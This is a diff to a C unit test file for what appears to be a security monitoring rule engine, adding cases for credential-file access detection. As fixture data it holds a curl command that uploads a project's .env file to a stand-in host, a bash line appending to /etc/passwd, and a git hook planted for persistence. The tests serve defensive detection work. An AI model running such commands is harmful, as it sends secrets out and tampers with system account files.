@@ -2371,6 +2371,12 @@ static void test_default_provenance(void **state)
 	/* a git hook renamed into place (attack_events: written) */
 	e = ev_file(&x, "rename", "/tmp/h", "/home/ci/src/project/.git/hooks/pre-push", 0, false);
 	assert_true(ev_matches(p, e, "persistence-write"));
+	/* a project's .env sent by a program that uploads files; read by the app */
+	e = ev_file(&x, "open-read", "/home/ci/src/project/.env", NULL, 0, false);
+	fx_set(&x.proc, "/usr/bin/curl", ARGV("curl", "-F", "f=@.env", "https://x"), NPM_ANC);
+	assert_true(ev_matches(p, e, "credential-file-access"));
+	fx_set(&x.proc, "/usr/bin/node", ARGV("node", "server.js"), NPM_ANC);
+	assert_false(ev_matches(p, e, "credential-file-access"));
 	/* account files: appended to by a shell, not written by useradd or dpkg */
 	e = ev_file(&x, "open-write", "/etc/passwd", NULL, 0, false);
 	fx_set(&x.proc, "/usr/bin/bash", ARGV("bash", "-c", "echo x >> /etc/passwd"), SH_MAKE);
